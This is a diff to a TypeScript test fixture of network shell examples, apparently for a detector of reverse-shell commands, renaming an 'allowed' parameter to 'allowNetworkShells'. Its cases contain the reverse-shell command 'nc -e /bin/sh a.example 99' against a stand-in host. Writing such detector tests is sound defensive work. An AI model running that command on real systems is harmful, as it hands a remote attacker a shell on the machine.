@@ -39,7 +39,7 @@ export const networkShellExamples = [
   { name: 'said', given: { input: { command: 'echo "nc -e /bin/sh a.example 99"' } }, want: 'abstain' },
   {
     name: 'allowed',
-    given: { input: { command: 'nc -e /bin/sh a.example 99' }, params: { allowed: true } },
+    given: { input: { command: 'nc -e /bin/sh a.example 99' }, params: { allowNetworkShells: true } },
     want: 'abstain',
   },
 ] as const
